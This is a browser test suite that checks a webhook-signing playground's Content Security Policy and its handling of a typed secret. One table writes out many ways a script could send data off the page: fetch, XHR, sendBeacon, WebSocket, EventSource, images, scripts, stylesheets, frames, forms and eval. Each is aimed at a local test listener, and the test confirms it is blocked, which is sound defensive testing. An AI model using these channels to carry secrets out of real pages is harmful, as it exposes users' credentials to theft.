// What is typed into the page stays in it: the browser keeps it there, and the page never tries.
import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { Playground, launch, listen, servePage } from "./page.mjs";

const POLICY =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; connect-src 'none'; form-action 'none'; base-uri 'none'";

let server, browser, page;
before(async () => {
  server = await servePage();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});
beforeEach(async () => void (page = await Playground.open(browser, server.origin)));
afterEach(() => page.close());

test("in normal use no rule is broken and nothing is asked for but the page's own files", async () => {
  await page.press("app.deployed");
  await page.payload.focus();
  await page.page.keyboard.type("x\n");
  await page.press("Show secret");
  await page.press("Rotating? Add the older one");
  await page.dropFile([0x7b, 0xff, 0x0d, 0x0a]);
  await page.issues.first().click();
  await page.press("Sign the payload");
  await page.press("user.interaction");
  assert.equal(await page.verdict(), "Valid");

  assert.deepEqual(await page.violations(), []);
  assert.deepEqual(page.errors, []);
  const own = new Set(["/", "/style.css", "/playground.js", "/favicon.svg"].map((path) => server.origin + path));
  assert.deepEqual(page.requests.filter((url) => !own.has(url)), []);
});

test("the policy is in the page itself, before anything it loads", async () => {
  const found = await page.page.evaluate(() => {
    const meta = document.querySelector("meta[http-equiv=Content-Security-Policy]");
    const loads = document.querySelector("link, script, img, style");
    return { policy: meta.content, first: Boolean(meta.compareDocumentPosition(loads) & Node.DOCUMENT_POSITION_FOLLOWING) };
  });
  assert.deepEqual(found, { policy: POLICY, first: true });
});

const WAYS_OUT = {
  "connect-src": {
    fetch: (url) => void fetch(url, { mode: "no-cors" }).catch(() => {}),
    XMLHttpRequest: (url) => {
      const request = new XMLHttpRequest();
      request.open("POST", url);
      request.send("secret");
    },
    sendBeacon: (url) => void navigator.sendBeacon(url, "secret"),
    WebSocket: (url) => void new WebSocket(url.replace("http", "ws")),
    EventSource: (url) => void new EventSource(url),
  },
  "img-src": { image: (url) => void (new Image().src = url) },
  "script-src-elem": { script: (url) => document.head.append(Object.assign(document.createElement("script"), { src: url })) },
  "style-src-elem": { stylesheet: (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url })) },
  "frame-src": { frame: (url) => document.body.append(Object.assign(document.createElement("iframe"), { src: url })) },
  "form-action": {
    form: (url) => {
      const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: url, method: "post" }));
      form.submit();
    },
  },
  "script-src": { "code from a string": () => void setTimeout("fetch('/')") },
};

for (const [directive, ways] of Object.entries(WAYS_OUT)) {
  for (const [name, attempt] of Object.entries(ways)) {
    test(`${name} is blocked (${directive})`, async () => {
      const reached = [];
      const outside = await listen((request, response) => {
        reached.push(request.url);
        response.end();
      });
      try {
        await page.page.evaluate(attempt, `${outside.origin}/?secret`);
        await page.page.waitForFunction(() => window.violations.length > 0, null, { timeout: 5000 });
        assert.deepEqual(await page.violations(), [directive]);
        assert.deepEqual(reached, []);
      } finally {
        await outside.close();
      }
    });
  }
}

test("the secret is masked, never offered to be stored, and gone after a reload", async () => {
  await page.press("app.deployed");
  assert.equal(await page.secret.getAttribute("type"), "password");
  assert.equal(await page.secret.getAttribute("autocomplete"), "off");
  await page.press("Show secret");
  assert.equal(await page.secret.getAttribute("type"), "text");
  await page.press("Hide secret");
  assert.equal(await page.secret.getAttribute("type"), "password");

  const kept = await page.page.evaluate(async () => ({
    url: location.href,
    stored: localStorage.length + sessionStorage.length + document.cookie.length + (await indexedDB.databases()).length,
    history: history.state,
  }));
  assert.deepEqual(kept, { url: server.origin + "/", stored: 0, history: null });
  await page.page.reload();
  assert.equal(await page.secret.inputValue(), "");
  assert.equal(await page.header.inputValue(), "");
  assert.equal(await page.verdict(), "Not checked yet");
});
